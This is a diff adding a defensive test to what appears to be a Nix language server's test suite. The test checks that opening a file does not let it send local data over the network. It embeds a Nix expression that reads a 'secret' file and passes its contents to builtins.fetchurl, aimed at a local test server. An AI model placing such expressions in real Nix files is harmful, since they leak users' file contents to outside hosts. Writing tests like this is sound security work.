@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import http.server
+import threading
 import time
 from typing import TYPE_CHECKING, Any
 
@@ -299,3 +301,28 @@ def test_evaluation_may_be_turned_off(tmp_path: Path) -> None:
         said = one.at("hover", uri, *at)["contents"]["value"]
         assert said == "```nix\na = 1 + 1\n```"
         assert one.about("inlayHint", uri, range={"start": position(0, 0), "end": position(9, 0)}) == []
+
+
+@pytest.mark.parametrize("network", [False, True])
+def test_opening_a_file_sends_nothing_away(tmp_path: Path, network: bool) -> None:
+    """Else a file that somebody sent could fetch a URL with the contents of one of the user's in it."""
+    asked: list[str] = []
+
+    class Answers(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_error(404)
+
+        def log_message(self, *arguments: object) -> None:
+            pass
+
+    (tmp_path / "secret").write_text("hush")
+    server = http.server.HTTPServer(("127.0.0.1", 0), Answers)
+    with server, Editor(tmp_path, {"network": network, "hover": {"wait": 20}}) as one:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        place = f"http://127.0.0.1:{server.server_port}"
+        plain, at = marked(f'let a = builtins.fetchurl "{place}/${{builtins.readFile ./secret}}"; in █a')
+        said = one.at("hover", one.open("x.nix", plain), *at)["contents"]["value"]
+        server.shutdown()
+    assert bool(asked) == network
+    assert ("opening a file does not let it ask" in said) != network
